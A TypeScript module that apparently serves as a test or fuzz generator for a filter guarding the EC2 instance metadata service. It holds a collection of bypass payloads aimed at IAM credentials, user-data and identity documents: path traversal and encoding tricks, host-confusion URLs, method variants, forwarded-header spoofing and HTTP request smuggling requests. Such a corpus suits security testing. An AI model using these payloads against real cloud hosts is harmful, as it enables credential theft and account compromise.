import { HOST_ROLE } from "./ec2.ts";

/** Documents that hold something of the host's own. */
export const HOST_DOCUMENTS = [
  `meta-data/iam/security-credentials/${HOST_ROLE}`,
  "meta-data/iam/security-credentials-extended/",
  "meta-data/identity-credentials/ec2/info",
  "meta-data/identity-credentials/ec2/security-credentials/ec2-instance",
  "meta-data/managed-ssh-keys/signer-cert",
  "meta-data/tags/instance/Name",
  "user-data",
  "dynamic/instance-identity/pkcs7",
  "dynamic/instance-identity/signature",
  "dynamic/instance-identity/rsa2048",
];

const VERSIONS = ["latest", "1.0", "2009-04-04", "2021-03-23", "2024-04-11", "LATEST", "latest%20", "%6catest"];

const SPELLINGS: readonly ((path: string) => string)[] = [
  (path) => path,
  (path) => `${path}/`,
  (path) => path.replaceAll("/", "//"),
  (path) => path.replaceAll("/", "/./"),
  (path) => `/latest/meta-data/placement/../../..${path}`,
  (path) => `/latest/meta-data/placement/%2e%2e/%2e%2e/%2e%2e${path}`,
  (path) => `/latest/meta-data/placement/..%2f..%2f..${path}`,
  (path) => `/latest/meta-data/services/..;/..;/..${path}`,
  (path) => path.replace(/[a-z]/g, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (path) => path.replace("a", "%2561"),
  (path) => path.replaceAll("/", "%2f").replace("%2f", "/"),
  (path) => path.replaceAll("/", "\\").replace("\\", "/"),
  (path) => path.replaceAll("/", "%c0%af").replace("%c0%af", "/"),
  (path) => path.replace(/([a-z])\//, "$1%00/"),
  (path) => `${path}?x=/latest/meta-data/placement/region`,
  (path) => `/latest/meta-data/placement/region?x=${path}`,
  (path) => `${path}#/latest/meta-data/placement/region`,
  (path) => `${path};type=text`,
  (path) => `http://169.254.169.254${path}`,
  (path) => `http://169.254.169.254@198.51.100.10${path}`,
  (path) => `//169.254.169.254${path}`,
  (path) => path.toUpperCase(),
  (path) => `${path}\t`,
  (path) => `${path}%20`,
];

/** Every spelling of every document under the usual version, and the plain spelling under every version. */
export function* oddPaths(): Generator<string> {
  for (const document of HOST_DOCUMENTS) {
    for (const spelling of SPELLINGS) yield spelling(`/latest/${document}`);
    for (const version of VERSIONS) yield `/${version}/${document}`;
  }
}

const METHODS = ["HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "PATCH", "CONNECT", "get", "GET\t", "PROPFIND"];

/** @param token the asking workload's own, which is good */
export function* oddRequests(token: string): Generator<string> {
  const path = `/latest/${HOST_DOCUMENTS[0]}`;
  const head = `Host: 169.254.169.254\r\nX-aws-ec2-metadata-token: ${token}\r\n`;
  const wanted = `GET ${path} HTTP/1.1\r\n${head}\r\n`;
  const allowed = "GET /latest/meta-data/placement/region HTTP/1.1\r\n";
  for (const method of METHODS)
    yield `${method} ${path} HTTP/1.1\r\n${head}Connection: close\r\nContent-Length: 0\r\n\r\n`;
  yield `GET ${path}\r\n\r\n`;
  yield `GET ${path} HTTP/1.0\r\n\r\n`;
  yield `GET ${path} HTTP/2.0\r\n${head}\r\n`;
  yield `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`;
  yield `GET ${path} HTTP/1.1\r\n${head}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`;
  yield `GET ${path} HTTP/1.1\nHost: 169.254.169.254\nX-aws-ec2-metadata-token: ${token}\n\n`;
  for (const forwarded of [
    "X-Forwarded-For: 127.0.0.1",
    "Forwarded: for=127.0.0.1",
    "X-Original-URL: /latest/user-data",
    "X-Rewrite-URL: /latest/user-data",
  ]) {
    yield `${allowed}${head}${forwarded}\r\nConnection: close\r\n\r\n`;
  }
  // What one reader takes for a body, another takes for the next request.
  yield `${allowed}${head}Content-Length: ${wanted.length}\r\n\r\n${wanted}`;
  yield `${allowed}${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${wanted}`;
  yield `${allowed}${head}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${wanted}`;
  yield `${allowed}${head}Content-Length: 0\r\nContent-Length: ${wanted.length}\r\n\r\n${wanted}`;
  yield `${allowed}${head}Transfer-Encoding: \x0bchunked\r\n\r\n${wanted.length.toString(16)}\r\n${wanted}\r\n0\r\n\r\n`;
  yield `${allowed}${head}\r\n${wanted}`;
  yield `${allowed}${head}X: y\r\n ${wanted}`;
  yield `GET /latest/meta-data/placement/region HTTP/1.1\r\nHost: 169.254.169.254\r\nHost: x\r\n\r\n`;
  yield `GET /latest/meta-data/placement/region${path} HTTP/1.1\r\n${head}Connection: close\r\n\r\n`;
}
